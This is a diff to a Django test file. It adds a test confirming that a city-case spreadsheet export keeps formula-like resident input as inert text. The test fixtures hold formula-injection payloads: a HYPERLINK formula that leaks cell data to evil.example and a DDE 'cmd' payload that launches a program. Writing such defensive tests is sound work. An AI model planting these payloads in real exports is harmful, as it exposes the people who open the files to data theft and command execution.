@@ -67,3 +67,33 @@ def test_it_sends_bad_filters_back_to_the_list_with_a_chinese_message(client, ci
     client.force_login(people.dispatcher)
     response = client.get(reverse("cases:case-export"), {"reported_from": "昨天"}, follow=True)
     assert "请输入有效的日期" in response.content.decode()
+
+
+def test_text_that_looks_like_a_formula_stays_text(client, city, people):
+    """Formula injection: a resident's "=HYPERLINK(…)" must not become a live cell for staff."""
+    texts = [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看详情")',
+        "+1+2 路灯不亮",
+        "-3+4 井盖缺失",
+        "@SUM(1,2) 垃圾满了",
+    ]
+    for text in texts:
+        new_case(city, description=text, address="=1+1", reporter_name="=cmd|' /C calc'!A0")
+    client.force_login(people.dispatcher)
+    response = client.get(reverse("cases:case-export"), {"status": "open"})
+    book = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<hyperlink" not in sheet  # no formula, no live link
+    cells = sheet_text_values(sheet)
+    for text in texts:
+        assert text in cells
+    assert "=1+1" in cells and "=cmd|' /C calc'!A0" in cells
+
+
+def sheet_text_values(sheet_xml: str) -> set[str]:
+    """The text of every string cell of a sheet written with inline strings."""
+    from xml.etree import ElementTree
+
+    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    root = ElementTree.fromstring(sheet_xml)
+    return {t.text or "" for t in root.iterfind(".//m:c[@t='inlineStr']/m:is/m:t", ns)}
